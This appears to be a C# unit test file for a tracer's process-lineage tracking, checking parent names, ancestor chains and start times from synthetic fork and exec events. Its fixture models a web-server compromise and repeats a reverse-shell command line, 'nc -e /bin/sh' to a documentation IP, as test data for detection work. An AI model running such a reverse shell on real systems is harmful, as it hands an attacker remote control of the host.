// SPDX-License-Identifier: Apache-2.0
using FarQuery.Events.Tracing;

namespace FarQuery.Events.Tests.Tracing;

/// <summary>The lineage the tracer's task table adds to its events (parent name, path and command line, ancestors; and
/// name, command line and parent for socket and file events), fed with the event sequences the tracer emits.</summary>
public sealed class LineageTests
{
    // Pids above the kernel's hard limit (PID_MAX_LIMIT, 4194304), so the /proc fallback never finds a real process.
    private const long Root = 1_000_000_001;

    private static ProcessEvent Fork(long pid, long parent, string name, string path, string cmdline, long time = 0) =>
        new() { Syscall = "fork", Pid = pid, Parent = parent, Name = name, Path = path, Cmdline = cmdline, Time = time };

    private static ProcessEvent Exec(long pid, long parent, string name, string path, string cmdline, long time = 0) =>
        new() { Syscall = "execve", Pid = pid, Parent = parent, Name = name, Path = path, Cmdline = cmdline, Time = time };

    /// <summary>A lineage whose lookup knows nothing (no /proc), as for processes gone before they were asked about.</summary>
    private static Lineage Empty() => new(_ => null);

    /// <summary>root (httpd) → sh → a → b → c → d → e → nc.</summary>
    private static Lineage Chain()
    {
        var lineage = Empty();
        lineage.OnProcess(Exec(Root, -1, "httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND"));
        lineage.OnProcess(Fork(Root + 1, Root, "httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND"));
        lineage.OnProcess(Exec(Root + 1, Root, "sh", "/usr/bin/dash", "sh -c ./a"));
        var names = new[] { "a", "b", "c", "d", "e" };
        for (var i = 0; i < names.Length; i++)
        {
            lineage.OnProcess(Exec(Root + 2 + i, Root + 1 + i, names[i], "/tmp/" + names[i], "./" + names[i]));
        }

        lineage.OnProcess(Exec(Root + 7, Root + 6, "nc", "/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444"));
        return lineage;
    }

    [Fact]
    public void OnProcess_ExecBelowForkedShell_CarriesParentAndNearestFirstAncestors()
    {
        var lineage = Chain();
        var sh = lineage.OnProcess(Exec(Root + 1, Root, "sh", "/usr/bin/dash", "sh -c ./a"));
        Assert.Equal(("httpd", "/usr/sbin/httpd", "httpd -DFOREGROUND", "httpd"), (sh.ParentName, sh.ParentPath, sh.ParentCmdline, sh.Ancestors));
        var nc = lineage.OnProcess(Exec(Root + 7, Root + 6, "nc", "/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444"));
        Assert.Equal(("e", "./e", "e d c b a"), (nc.ParentName, nc.ParentCmdline, nc.Ancestors));
        Assert.Equal(("nc", Root + 6), (nc.Name, nc.Parent));
    }

    [Fact]
    public void Describe_ParentExited_OrphanStillNamesIt()
    {
        var lineage = Chain();
        lineage.OnProcess(new ProcessEvent { Syscall = "exit", Pid = Root + 6, Parent = Root + 5 });
        var nc = lineage.Describe(Root + 7);
        Assert.Equal(("nc", "nc -e /bin/sh 192.0.2.1 4444", "e", "e d c b a"), (nc.Name, nc.Cmdline, nc.ParentName, nc.Ancestors));
    }

    [Fact]
    public void Describe_KnownProcess_CarriesNameCmdlineAndParent()
    {
        var nc = Chain().Describe(Root + 7);
        Assert.Equal(
            new ProcessLineage("nc", "nc -e /bin/sh 192.0.2.1 4444", Root + 6, "e", "/tmp/e", "./e", "e d c b a"),
            nc);
    }

    [Fact]
    public void Describe_UnknownProcess_IsUnknown()
    {
        Assert.Equal(ProcessLineage.Unknown, Empty().Describe(Root + 99));
        Assert.Equal(-1, ProcessLineage.Unknown.Parent);
    }

    [Fact]
    public void OnProcess_ParentNeverSeen_AskedOfTheLookupOnce()
    {
        var asked = 0;
        var lineage = new Lineage(pid =>
        {
            // The exec'd processes themselves are asked too (for their start, their fork not having been seen).
            asked += pid == 7 ? 1 : 0;
            return pid == 7 ? new Lineage.Node("init", "/sbin/init", "init", 0) : null;
        });
        Assert.Equal("init", lineage.OnProcess(Exec(Root, 7, "sh", "/bin/sh", "sh")).ParentName);
        Assert.Equal("init", lineage.OnProcess(Exec(Root + 1, 7, "sh", "/bin/sh", "sh")).ParentName);
        Assert.Equal(1, asked);
    }

    [Fact]
    public void OnProcess_ParentNeverSeenByTheTracer_ReadFromProcByTheTaskTable()
    {
        // The app's first exec has the agent as its parent, which the tracer never saw start: ProcFs supplies it.
        var tasks = new TracedTasks();
        var self = Environment.ProcessId;
        var sh = tasks.Lineage.OnProcess(Exec(Root, self, "sh", "/usr/bin/dash", "sh -c true"));
        var comm = File.ReadAllText($"/proc/{self}/comm").TrimEnd('\n');
        Assert.Equal(comm, sh.ParentName);
        Assert.False(string.IsNullOrEmpty(sh.ParentCmdline));
        Assert.StartsWith(comm, sh.Ancestors, StringComparison.Ordinal);
    }

    [Fact]
    public void OnProcess_ParentInTaskTable_TakenFromItNotProc()
    {
        var tasks = new TracedTasks();
        tasks.SetProcess((int)(Root - 1), new ProcFacts { Pid = (int)(Root - 1), Name = "runner", Exe = "/bin/runner", Cmdline = "runner -x", Parent = -1 });
        var child = tasks.Lineage.OnProcess(Exec(Root, Root - 1, "sh", "/bin/sh", "sh"));
        Assert.Equal(("runner", "/bin/runner", "runner -x", "runner"), (child.ParentName, child.ParentPath, child.ParentCmdline, child.Ancestors));
    }

    [Fact]
    public void OnProcess_ManyShortLivedProcesses_ForgetsOldExitsKeepsRecentOnes()
    {
        var lineage = Empty();
        const int Count = 20_000;
        for (var i = 0; i < Count; i++)
        {
            lineage.OnProcess(Exec(Root + i, -1, "job", "/bin/job", "job " + i));
            lineage.OnProcess(new ProcessEvent { Syscall = "exit", Pid = Root + i });
        }

        // Orphans of the first and of the last job exec afterwards: only the recent exit is still remembered.
        Assert.Null(lineage.OnProcess(Exec(Root + Count + 1, Root, "old", "/bin/old", "old")).ParentName);
        Assert.Equal($"job {Count - 1}", lineage.OnProcess(Exec(Root + Count + 2, Root + Count - 1, "new", "/bin/new", "new")).ParentCmdline);
    }

    [Fact]
    public void OnProcess_ForkThenExec_StartIsTheForkNotTheExec()
    {
        // Falco's proc.duration counts from the clone: an exec 7 s after the fork keeps the fork's time, and so do the
        // process's later rows, its exit and its socket and file events.
        var lineage = Empty();
        Assert.Equal(1_700_000_000, lineage.OnProcess(Fork(Root, -1, "sh", "/bin/sh", "sh", 1_700_000_000)).StartTime);
        Assert.Equal(1_700_000_000, lineage.OnProcess(Exec(Root, -1, "nginx", "/usr/sbin/nginx", "nginx", 1_700_000_007)).StartTime);
        Assert.Equal(1_700_000_000, lineage.Describe(Root).StartTime);
        Assert.Equal(1_700_000_000, lineage.OnProcess(new ProcessEvent { Syscall = "exit", Pid = Root, Time = 1_700_000_060 }).StartTime);
    }

    [Fact]
    public void OnProcess_ExecWithoutFork_StartFromTheLookupElseUnknown()
    {
        var lineage = new Lineage(pid => pid == Root ? new Lineage.Node("stub", "/bin/stub", "stub", -1, 1_600_000_000) : null);
        Assert.Equal(1_600_000_000, lineage.OnProcess(Exec(Root, -1, "app", "/bin/app", "app", 1_700_000_000)).StartTime);
        Assert.Null(lineage.OnProcess(Exec(Root + 1, -1, "app", "/bin/app", "app", 1_700_000_000)).StartTime);
        Assert.Null(lineage.Describe(Root + 1).StartTime);
    }

    [Fact]
    public void OnProcess_AppsExecWhoseForkWasNotSeen_StartReadFromProcByTheTaskTable()
    {
        // The app is started by the tracer itself, so no fork event: the task table reads /proc/[pid]/stat.
        var tasks = new TracedTasks();
        var self = Environment.ProcessId;
        tasks.SetProcess(self, ProcFacts.Read(self));
        var app = tasks.Lineage.OnProcess(Exec(self, -1, "app", "/bin/app", "app", DateTimeOffset.UtcNow.ToUnixTimeSeconds()));
        Assert.Equal(ProcFacts.StartTime(self), app.StartTime);
        Assert.NotNull(app.StartTime);
    }
}
